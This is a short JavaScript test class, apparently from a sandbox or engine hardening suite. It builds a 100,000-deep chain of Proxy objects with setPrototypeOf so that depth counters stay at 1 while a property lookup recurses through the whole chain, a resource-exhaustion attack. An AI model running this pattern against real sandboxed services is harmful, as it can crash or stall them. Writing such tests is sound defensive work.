// Threat: proxies are counted when made, by the proxies beneath them. Make a
// proxy over a plain object, then hang a chain of proxies below that object
// with setPrototypeOf: every count stays 1 while lookups recurse through all.
class ProxyChainThroughSetPrototype {
  init() {}

  attack() {
    let bottom = {};
    for (let i = 0; i < 100000; i++) {
      const base = {};
      const top = new Proxy(base, {});
      Object.setPrototypeOf(base, bottom);
      bottom = top;
    }
    return String(bottom.missing);
  }
}

module.exports = ProxyChainThroughSetPrototype;
